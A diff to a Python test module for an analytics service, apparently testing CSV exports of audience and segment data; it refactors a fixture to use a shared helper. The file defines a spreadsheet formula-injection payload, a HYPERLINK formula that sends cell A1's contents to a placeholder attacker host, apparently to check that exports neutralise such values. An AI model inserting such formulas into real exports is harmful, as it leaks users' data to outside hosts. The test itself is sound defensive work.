@@ -13,7 +13,6 @@ import pytest
 from fastapi.testclient import TestClient
 from pymongo.database import Database
 
-from fastinsight.api.app import create_app
 from fastinsight.config import Settings
 from fastinsight.schemas.insights import (
     AudienceMember,
@@ -26,9 +25,9 @@ from fastinsight.schemas.insights import (
 from fastinsight.services.data.ingest import IngestService
 from fastinsight.services.insights.audience import audience_csv
 from fastinsight.services.insights.segments import campaigns_csv, csv_text, members_csv
-from fastinsight.services.training.pipeline import train
 from tests.api.test_recommend import ALPHA, BETA, _rows, seed
-from tests.conftest import ADMIN_KEY, API_KEY
+from tests.conftest import ADMIN_KEY
+from tests.insights.test_erased_and_deleted import serve_with_insights
 
 ADMIN = {"X-API-Key": ADMIN_KEY}
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
@@ -97,12 +96,7 @@ def trained(db: Database[dict[str, object]], settings: Settings) -> Iterator[Tes
                "timestamp": (now - timedelta(hours=n + 1)).isoformat()}
               for user in EVIL_USERS for n, item in enumerate(ALPHA[:4])]
     assert not svc.import_interactions(_rows(events)).rejected
-    train(db, settings, "als", evaluate=False)
-    with TestClient(create_app(settings), headers={"X-API-Key": API_KEY}) as client:
-        assert client.post("/v1/admin/insights/refresh", params={"wait": True}, headers=ADMIN).status_code == 200
-        r = client.post("/v1/admin/segments/rebuild", params={"k": 2}, headers=ADMIN)
-        assert r.status_code == 200, r.text
-        yield client
+    yield from serve_with_insights(db, settings)
 
 
 def _same_numbers(csv_value: str, json_value: float) -> None:
